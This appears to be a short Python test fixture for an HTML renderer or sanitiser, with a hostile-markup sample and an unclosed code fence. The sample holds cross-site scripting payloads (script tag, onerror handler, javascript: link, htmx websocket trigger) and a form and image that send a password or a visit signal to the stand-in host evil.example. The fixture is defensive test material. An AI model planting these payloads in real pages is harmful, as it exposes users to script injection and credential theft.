"""Answers that a page must bear."""

from __future__ import annotations

HOSTILE_HTML = """\
<script>alert(1)</script><img src=x onerror=alert(1)>
<form action="https://evil.example/"><input name="password"></form>
<div ws-connect="wss://evil.example/" hx-get="/" hx-trigger="load">Click me</div>
[a link](javascript:alert(1)) ![a picture](https://evil.example/seen.png)
"""
"""Markup, scripts and addresses that must not come to life."""

UNCLOSED_FENCE = """\
Here is the code:

```python
print("Hello")
"""
"""A piece of code that the model forgot to close."""
